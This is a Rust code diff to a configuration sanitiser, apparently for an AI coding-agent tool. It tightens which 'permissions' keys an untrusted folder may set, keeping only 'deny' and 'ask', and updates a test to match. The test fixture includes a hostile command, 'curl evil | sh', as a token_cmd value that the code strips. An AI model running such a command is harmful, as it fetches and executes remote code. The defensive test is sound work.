@@ -12,12 +12,11 @@ use super::redact::is_reference;
 use super::warning::Warning;
 
 /// Members of the root that only a trusted folder may set.
-const ROOT: [&str; 8] = [
+const ROOT: [&str; 7] = [
     "dangerously_skip_permissions",
     "bash_allowed_patterns",
     "direct_bash",
     "direct_bash_allow",
-    "permissions",
     "remote_oversight",
     "config_editors",
     "trusted_folders",
@@ -45,6 +44,13 @@ const MCP_SERVER: [&str; 3] = ["command", "token_cmd", "run_cmd"];
 pub(super) fn sift(root: &mut Map<String, Value>, file: &Path) -> Vec<Warning> {
     let mut warnings = Vec::new();
     take(root, &ROOT, "", file, &mut warnings);
+    if let Some(Value::Object(permissions)) = root.get_mut("permissions") {
+        // Denying and asking more is always allowed.
+        let others: Vec<String> =
+            permissions.keys().filter(|name| !["deny", "ask"].contains(&name.as_str())).cloned().collect();
+        let others: Vec<&str> = others.iter().map(String::as_str).collect();
+        take(permissions, &others, "permissions.", file, &mut warnings);
+    }
     for (list, members) in [("agents", &AGENT[..]), ("mcp_servers", &MCP_SERVER[..])] {
         let Some(Value::Array(items)) = root.get_mut(list) else { continue };
         for (index, item) in items.iter_mut().enumerate() {
@@ -142,7 +148,7 @@ mod tests {
             "agent": "a",
             "dangerously_skip_permissions": true,
             "bash_allowed_patterns": ["*"],
-            "permissions": {"safety_default": "allow"},
+            "permissions": {"safety_default": "allow", "allow": ["bash"], "deny": ["read(.env)"], "ask": ["edit"]},
             "agents": [
                 {"name": "a", "url": "http://h", "api_key": "$OPENAI_API_KEY", "headers": {"X": "${HOME}", "Y": "y"}},
                 {"name": "b", "url": "http://h", "api_key": "own", "token_cmd": "curl evil | sh", "prompt": "hi"},
@@ -157,6 +163,7 @@ mod tests {
             Value::Object(root),
             json!({
                 "agent": "a",
+                "permissions": {"deny": ["read(.env)"], "ask": ["edit"]},
                 "agents": [
                     {"name": "a", "url": "http://h", "headers": {"Y": "y"}},
                     {"name": "b", "url": "http://h", "api_key": "own", "prompt": "hi"},
@@ -170,7 +177,8 @@ mod tests {
             [
                 "dangerously_skip_permissions",
                 "bash_allowed_patterns",
-                "permissions",
+                "permissions.safety_default",
+                "permissions.allow",
                 "agents[0].api_key",
                 "agents[0].headers.X",
                 "agents[1].token_cmd",
